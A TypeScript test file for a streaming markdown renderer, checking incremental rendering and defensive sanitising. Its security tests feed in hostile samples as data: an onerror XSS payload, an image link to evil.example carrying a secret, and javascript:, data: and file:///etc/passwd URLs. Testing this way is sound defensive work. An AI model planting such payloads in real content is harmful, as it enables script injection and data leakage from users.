import { describe, expect, it } from 'vitest';
import { Blocks } from './blocks';

const html = (text: string): string =>
  new Blocks()
    .read(text, false)
    .map((block) => block.html)
    .join('');

const long = [
  '# Title\n\nSome *text* with `code`\nover two lines.\n\n',
  '- one\n- two\n\n  a paragraph of two\n- three\n\n1. first\n2. second\n\n',
  '```ts\nconst a = 1;\n\n\nconst b = 2;\n```\n\n> quoted\n> more\n\nTitle below\n===\n\n',
  '| a | b |\n|---|--:|\n| 1 | 2 |\n\n---\n\n    indented\n    code\n\nThe [end][1].\n\n[1]: https://example.com/\n',
].join('');

describe('a text that grows', () => {
  it('is in the end what it is at once, wherever it was cut', () => {
    const expected = new Blocks().read(long, false).map(({ html, code }) => ({ html, code }));
    for (const step of [1, 3, 7, 50]) {
      const blocks = new Blocks();
      for (let at = step; at < long.length; at += step) blocks.read(long.slice(0, at), true);
      const grown = blocks.read(long, false).map(({ html, code }) => ({ html, code }));
      expect(grown).toEqual(expected);
    }
  });

  it('keeps the blocks before the last as they are', () => {
    const blocks = new Blocks();
    const before = blocks.read('one\n\ntwo\n\nthr', true);
    const after = blocks.read('one\n\ntwo\n\nthree\n\nfour', true);
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
    expect(after.map(({ key }) => key)).toEqual([0, 1, 2, 3]);
  });

  it('begins anew when it was replaced', () => {
    const blocks = new Blocks();
    blocks.read('one\n\ntwo', true);
    expect(blocks.read('other', true).map((block) => block.html)).toEqual(['<p>other</p>\n']);
  });

  it('shows code that is not closed yet as code', () => {
    const [block] = new Blocks().read('```sh\nls -l', true);
    expect(block?.code).toEqual({ text: 'ls -l', language: 'sh' });
  });
});

describe('what a page could have put there', () => {
  it('is no HTML', () => {
    expect(html('<img src=x onerror=alert(1)> <b>x</b>')).not.toMatch(/<(img|b)/);
  });

  it('fetches no picture', () => {
    const out = html('![pixel](https://evil.example/?secret)');
    expect(out).toContain('<a href="https://evil.example/?secret"');
    expect(out).not.toContain('<img');
  });

  it.each(['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'chrome://settings'])(
    'does not link to %s',
    (url) => {
      expect(html(`[a](${url}) <${url}>`)).not.toContain('<a');
    },
  );

  it('says where a link leads that claims another place', () => {
    expect(html('[https://bank.example](https://evil.example/x)')).toContain('(evil.example)');
    expect(html('[www.bank.example](https://bank.example/x)')).not.toContain('(bank.example)');
    expect(html('[the bank](https://bank.example/)')).not.toContain('(bank.example)');
  });

  it('has no style of its own', () => {
    expect(html('| a |\n|--:|\n| 1 |')).toContain('<th class="right">');
  });

  it('does not take a file for an address', () => {
    expect(html('see README.md and main.go')).not.toContain('<a');
  });
});
